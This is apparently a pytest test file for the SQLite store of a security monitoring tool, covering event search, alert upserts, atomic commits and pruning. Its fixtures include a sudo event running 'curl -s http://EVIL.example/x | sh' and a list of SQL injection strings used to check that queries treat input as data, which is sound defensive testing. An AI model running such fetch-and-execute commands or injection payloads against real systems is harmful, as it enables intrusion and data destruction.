"""The SQLite store: round trips, alert upserts, search, atomic commits, retention."""

from __future__ import annotations

import sqlite3
import stat
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest

from keibi.events.encoding import dumps
from keibi.events.model import Event
from keibi.store import schema
from keibi.store.query import QueryError, parse_filters
from keibi.store.sqlite import Store, StoreError

T0 = 1_793_000_000.0  # 2026-10-26T...Z, whole microseconds everywhere below


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    with Store(tmp_path / "keibi.db", clock=lambda: 123.0) as s:
        yield s


def ev(i: int, **kw: Any) -> Event:
    return Event(timestamp=T0 + i, **kw)


def alert(aid: str, ts: float, count: int, **kw: Any) -> Event:
    kw.setdefault("rule_id", "brute-force")
    kw.setdefault("rule_name", "SSH brute force")
    kw.setdefault("severity", 73)
    kw.setdefault("alert_severity", "high")
    return Event(timestamp=ts, kind="alert", alert_id=aid, alert_count=count, **kw)


def search(store: Store, *words: str, **kw: Any) -> list[Event]:
    return store.search(parse_filters(words), **kw)


EVENTS = [
    ev(0, category=("authentication",), type=("start",), action="ssh-login", outcome="failure",
       dataset="keibi.auth", host_name="web-1", source_ip="203.0.113.10", source_port=40022,
       user_name="oracle", process_name="sshd", process_pid=4001,
       related_ip=("203.0.113.10",), related_user=("oracle",),
       original="Failed password for invalid user oracle from 203.0.113.10 port 40022 ssh2"),
    ev(1, category=("process",), type=("start",), action="sudo-command", outcome="success",
       dataset="keibi.auth", host_name="web-1", user_name="alice", user_target_name="root",
       process_name="sudo", process_command_line="/usr/bin/curl -s http://EVIL.example/x | sh",
       process_args=("curl", "-s", "http://EVIL.example/x"), related_user=("alice", "root")),
    ev(2, category=("network",), action="connection-accepted", host_name="web-2",
       source_ip="2001:db8::bad:1", source_port=22, destination_port=22,
       related_ip=("2001:db8::bad:1", "198.51.100.7"), process_name="sshd", process_pid=4002,
       extra={"auditd.data.key": "keibi_net", "auditd.sequence": 7, "auditd.ok": True}),
    ev(3, category=("file",), action="file-modified", file_path="/etc/shadow",
       file_mode="0640", process_parent_name="bash", process_parent_pid=1200,
       message='wrote "shadow" with 100% certainty_ok', flags=("log-injection",)),
]


def test_events_round_trip_equal(store: Store) -> None:
    store.commit(EVENTS)
    got = store.search()
    assert got == list(reversed(EVENTS))  # newest first, equal to the originals
    assert store.search(limit=2) == [EVENTS[3], EVENTS[2]]
    assert store.search(limit=None) == got
    assert store.search(limit=0) == []
    with pytest.raises(QueryError):
        store.search(limit=-1)


def test_alert_with_evidence_round_trips(store: Store) -> None:
    a = alert("a1", T0 + 5, 2, source_ip="203.0.113.10", start=T0, end=T0 + 5,
              threat_technique_id=("T1110.001",), alert_evidence=(EVENTS[0], EVENTS[1]))
    store.commit([], [a])
    assert store.list_alerts() == [a]


def test_file_is_private(tmp_path: Path) -> None:
    Store(tmp_path / "k.db").close()
    assert stat.S_IMODE((tmp_path / "k.db").stat().st_mode) == 0o600


def test_alert_upsert_keeps_first_ts_and_takes_higher_counts(store: Store) -> None:
    first = alert("a1", T0 + 10, 5, start=T0, end=T0 + 10, source_ip="203.0.113.10")
    store.commit([], [first])
    later = alert("a1", T0 + 20, 8, start=T0 + 5, end=T0 + 20, source_ip="203.0.113.10",
                  severity=95, alert_severity="critical")
    store.commit([], [later])
    assert store.list_alerts() == [later]
    row = store._conn.execute("SELECT first_ts, last_ts, count, severity FROM alerts").fetchall()
    assert row == [(T0, T0 + 20, 8, 95)]
    # a stale update (lower count) changes nothing
    store.commit([], [alert("a1", T0 + 30, 3)])
    assert store.list_alerts() == [later]
    # the same count replaces (a replay writes the same alert again)
    same = msgspec.structs.replace(later, message="replayed")
    store.commit([], [same])
    assert store.list_alerts() == [same]
    assert store.stats().alerts == 1


def test_list_alerts_filters(store: Store) -> None:
    a = alert("a", T0 + 10, 1, severity=30, alert_severity="low", rule_id="r-low",
              rule_name="Low thing", user_name="bob")
    b = alert("b", T0 + 20, 1, severity=73, source_ip="203.0.113.10", start=T0 + 15)
    c = alert("c", T0 + 30, 1, severity=95, alert_severity="critical", rule_id="takeover",
              rule_name="Account takeover", source_ip="203.0.113.10")
    store.commit([], [a, b, c])
    assert store.list_alerts() == [c, b, a]
    assert store.list_alerts(min_severity=70) == [c, b]
    assert store.list_alerts(min_severity="HIGH") == [c, b]
    assert store.list_alerts(min_severity="critical") == [c]
    assert store.list_alerts(rule="takeover") == [c]
    assert store.list_alerts(rule="Low thing") == [a]
    # activity overlapping [since, until)
    assert store.list_alerts(since=T0 + 16, until=T0 + 30) == [b]
    assert store.list_alerts(until=T0 + 15) == [a]
    filters = parse_filters(["source.ip=203.0.113.10", "keibi.alert.severity!=critical"])
    assert store.list_alerts(filters=filters) == [b]
    assert store.list_alerts(filters=parse_filters(["user.name~BO"])) == [a]
    assert store.list_alerts(filters=parse_filters(["event.severity<50"])) == [a]
    assert store.list_alerts(limit=1) == [c]
    with pytest.raises(QueryError, match="unknown severity"):
        store.list_alerts(min_severity="urgent")


def test_alert_without_id_is_refused(store: Store) -> None:
    with pytest.raises(StoreError, match=r"keibi\.alert\.id"):
        store.commit(EVENTS, [Event(timestamp=T0, kind="alert")])
    assert store.search() == []


def test_checkpoints_and_status(store: Store) -> None:
    assert store.get_checkpoint("auth") is None
    store.commit([], checkpoints={"auth": b"\x00offset=1", "engine": b"{}"})
    store.commit([], checkpoints={"auth": b"offset=2"})
    assert store.get_checkpoint("auth") == b"offset=2"
    assert store.checkpoints() == {"auth": b"offset=2", "engine": b"{}"}
    assert store._conn.execute("SELECT DISTINCT updated FROM checkpoints").fetchall() == [(123.0,)]
    with pytest.raises(StoreError, match="data bytes"):
        store.commit([], checkpoints={"auth": "text"})  # type: ignore[dict-item]
    store.set_status("source.auth", {"events": 3, "last_error": None})
    store.set_status("source.auth", {"events": 4, "last_error": "rotated"})
    store.set_status("agent", "running")
    assert store.get_status("source.auth") == {"events": 4, "last_error": "rotated"}
    assert store.get_status("nothing") is None
    assert store.statuses() == {"agent": "running",
                                "source.auth": {"events": 4, "last_error": "rotated"}}


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        # indexed columns
        (["user.name=oracle"], [0]),
        (["user.name=Oracle"], []),  # = is case-sensitive
        (["source.ip=2001:db8::bad:1"], [2]),
        (["event.action=ssh-login", "source.ip=203.0.113.10"], [0]),
        (["host.name=web-1"], [1, 0]),
        (["process.pid=4002"], [2]),
        (["process.pid>4001"], [2]),
        (["file.path=/etc/shadow"], [3]),
        (["process.name~SSH"], [2, 0]),
        (["user.name!=oracle"], [3, 2, 1]),  # includes events without user.name
        # document fields
        (["user.target.name=root"], [1]),
        (["process.parent.name=bash"], [3]),
        (["auditd.data.key=keibi_net"], [2]),
        (["auditd.sequence=7"], [2]),
        (["auditd.sequence>6", "auditd.sequence<=7"], [2]),
        (["auditd.ok=true"], [2]),
        (["source.port=22"], [2]),
        (["source.port=22.0"], [2]),
        (["source.port>=40000"], [0]),
        (["source.port<100"], [2]),
        (["file.mode=0640"], [3]),  # text that looks like a number
        (["event.outcome!=failure"], [3, 2, 1]),
        # lists
        (["related.ip=198.51.100.7"], [2]),
        (["related.ip=198.51.100"], []),
        (["related.ip~198.51.100"], [2]),
        (["event.category=process"], [1]),
        (["event.category!=process"], [3, 2, 0]),
        (["process.args=-s"], [1]),
        (["related.user=root", "related.user=alice"], [1]),
        (["keibi.flags=log-injection"], [3]),
        # substrings, anywhere under a field or the whole document
        (["process.command_line~evil.EXAMPLE"], [1]),
        (["process~curl"], [1]),
        (["auditd~keibi_"], [2]),
        (["event.original~PASSWORD for invalid"], [0]),
        (["failed PASSWORD"], [0]),
        (["203.0.113.10"], [0]),
        (['"shadow"'], [3]),
        (["100%"], [3]),
        (["certainty_ok"], [3]),
        (["~ok_"], []),
        # objects are not values
        (["user=oracle"], []),
        (["nope.field=x"], []),
        (["nope.field!=x"], [3, 2, 1, 0]),
        # time
        (["@timestamp>=" + "@" + str(T0 + 2)], [3, 2]),
        (["@timestamp<2026-10-26"], []),
    ],
)
def test_search(store: Store, words: list[str], expected: list[int]) -> None:
    store.commit(EVENTS)
    assert search(store, *words) == [EVENTS[i] for i in expected]


def test_search_on_time_text(store: Store) -> None:
    events = [ev(0), Event(timestamp=1_793_059_200.0, start=1_793_059_100.0)]  # 2026-10-27
    store.commit(events)
    assert search(store, "@timestamp~2026-10-27T") == [events[1]]
    assert search(store, "event.start>2026-10-27") == []
    assert search(store, "event.start<2026-10-27T00:00:00Z") == [events[1]]
    assert search(store, "event.start=2026-10-26T23:58:20Z") == [events[1]]


def test_prefilters_never_hide_a_match(store: Store) -> None:
    odd = ev(0, message="Line1\nline2\ttab \\ back \"q\" \x01 ünï",
             extra={"metric.ratio": 1e-07, "metric.big": 1e20, "metric.half": 0.5})
    store.commit([odd, ev(1, message="other")])
    for word in ("message~line1\nLINE2", "message~\ttab \\ back \"Q\"", "message~\x01",
                 "message~ünï", "message=" + (odd.message or ""), "metric.ratio~e-07",
                 "metric.ratio~1", "metric.big~1", "metric.half~0.5", "metric.half=0.5",
                 "metric.ratio=1e-07", "metric.ratio=0.0000001", "metric.big>1e19"):
        assert search(store, word) == [odd], word


def test_since_is_inclusive_and_until_exclusive(store: Store) -> None:
    store.commit(EVENTS)
    assert store.search(since=T0 + 1, until=T0 + 3) == [EVENTS[2], EVENTS[1]]
    assert store.search(since=T0 + 3) == [EVENTS[3]]
    assert store.search(until=T0) == []
    assert store.search(parse_filters(["sshd"]), since=T0 + 1) == [EVENTS[2]]


HOSTILE = ["'; DROP TABLE events; --", "x' OR '1'='1", '" OR 1=1 --', "%", "_", "\\",
           "a%b", "a_b", "ä\\\"'%_z"]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_values_are_data(store: Store, value: str) -> None:
    decoys = [ev(i, user_name=v, user_target_name=v, message=f"msg {v}")
              for i, v in enumerate(["plain", "a1b", "aXb", "ab", "x"])]
    target = ev(10, user_name=value, user_target_name=value, message=f"msg {value}",
                related_user=(value,))
    store.commit([*decoys, target])
    for word in (f"user.name={value}", f"user.target.name={value}", f"related.user={value}",
                 f"user.name~{value}", f"user.target.name~{value}", f"message~{value}",
                 f"~{value}"):
        assert search(store, word) == [target], word
    assert search(store, f"user.name!={value}") == list(reversed(decoys))
    assert store.stats().events == 6


def test_unencodable_event_leaves_nothing_behind(store: Store) -> None:
    store.commit(EVENTS[:1], checkpoints={"auth": b"1"})
    bad = ev(9, extra={"x": object()})
    with pytest.raises(TypeError):
        store.commit([*EVENTS[1:], bad], [alert("a1", T0, 1)], {"auth": b"2"})
    assert store.search() == [EVENTS[0]]
    assert store.list_alerts() == []
    assert store.get_checkpoint("auth") == b"1"


def test_failure_inside_the_transaction_rolls_everything_back(tmp_path: Path) -> None:
    path = tmp_path / "keibi.db"
    with Store(path) as store:
        store.commit(EVENTS[:1], checkpoints={"auth": b"1"})
        raw = sqlite3.connect(path)
        raw.execute("CREATE TRIGGER boom BEFORE UPDATE ON checkpoints WHEN NEW.name = 'engine'"
                    " BEGIN SELECT RAISE(ABORT, 'disk on fire'); END")
        raw.execute("INSERT INTO checkpoints VALUES ('engine', x'00', 0)")
        raw.commit()
        raw.close()
        with pytest.raises(sqlite3.IntegrityError, match="disk on fire"):
            store.commit(EVENTS[1:], [alert("a1", T0, 1)], {"auth": b"2", "engine": b"x"})
        assert store.search() == [EVENTS[0]]
        assert store.list_alerts() == []
        assert store.checkpoints() == {"auth": b"1", "engine": b"\x00"}
        # the store is still usable afterwards
        store.commit(EVENTS[1:], checkpoints={"auth": b"2"})
        assert len(store.search()) == 4


def test_prune(store: Store) -> None:
    store.commit(EVENTS, [alert("old", T0, 1), alert("new", T0 + 10, 1)])
    assert store.prune(T0 + 2, batch=1) == 2
    assert store.search() == [EVENTS[3], EVENTS[2]]
    assert [a.alert_id for a in store.list_alerts()] == ["new", "old"]
    assert store.prune(T0 + 5, prune_alerts=True) == 3
    assert [a.alert_id for a in store.list_alerts()] == ["new"]
    assert store.prune(T0) == 0


def test_stats(store: Store) -> None:
    empty = store.stats()
    assert (empty.events, empty.alerts, empty.oldest_event) == (0, 0, None)
    store.commit(EVENTS, [alert("a", T0, 1)], {"auth": b"1"})
    st = store.stats()
    assert (st.events, st.alerts, st.checkpoints) == (4, 1, 1)
    assert (st.oldest_event, st.newest_event) == (T0, T0 + 3)
    assert st.schema_version == schema.SCHEMA_VERSION
    assert st.db_bytes > 0 and st.wal_bytes > 0
    assert st.path == str(store.path)


def test_reopen_keeps_data_and_schema(tmp_path: Path) -> None:
    path = tmp_path / "keibi.db"
    with Store(path) as s:
        s.commit(EVENTS)
    with Store(path) as s:
        assert len(s.search()) == 4
        assert s._conn.execute("PRAGMA journal_mode").fetchone() == ("wal",)
        assert s._conn.execute("PRAGMA user_version").fetchone() == (schema.SCHEMA_VERSION,)


def test_readonly(tmp_path: Path) -> None:
    (tmp_path / "odd dir?#%").mkdir()
    path = tmp_path / "odd dir?#%" / "keibi.db"  # quoted in the read-only URI
    with pytest.raises(StoreError, match="no keibi store"):
        Store.open_readonly(path)
    assert not path.exists()
    with Store(path) as s:
        s.commit(EVENTS)
        with Store.open_readonly(path) as r:
            assert r.readonly
            assert r.search(parse_filters(["user.name=oracle"])) == [EVENTS[0]]
            assert r.stats().events == 4
            with pytest.raises(StoreError, match="read-only"):
                r.commit(EVENTS)
            with pytest.raises(StoreError, match="read-only"):
                r.prune(T0 + 100)
            with pytest.raises(sqlite3.OperationalError):
                r._conn.execute("DELETE FROM events")


def test_foreign_and_future_databases_are_refused(tmp_path: Path) -> None:
    other = tmp_path / "other.db"
    raw = sqlite3.connect(other)
    raw.execute("CREATE TABLE t (x)")
    raw.commit()
    raw.close()
    with pytest.raises(StoreError, match="not a keibi store"):
        Store(other)
    future = tmp_path / "future.db"
    Store(future).close()
    raw = sqlite3.connect(future)
    raw.execute("PRAGMA user_version = 99")
    raw.close()
    with pytest.raises(StoreError, match="newer"):
        Store(future)
    with pytest.raises(StoreError, match="schema version 99"):
        Store.open_readonly(future)
    garbage = tmp_path / "garbage.db"
    garbage.write_bytes(b"this is not sqlite" * 100)
    with pytest.raises(StoreError):
        Store(garbage)
    with pytest.raises(StoreError, match="cannot create"):
        Store(tmp_path / "missing-dir" / "k.db")


def test_doc_is_the_canonical_encoding(store: Store) -> None:
    store.commit(EVENTS[:1])
    (doc,) = store._conn.execute("SELECT doc FROM events").fetchone()
    assert doc == dumps(EVENTS[0])


def test_close_is_idempotent(tmp_path: Path) -> None:
    s = Store(tmp_path / "k.db")
    s.close()
    s.close()
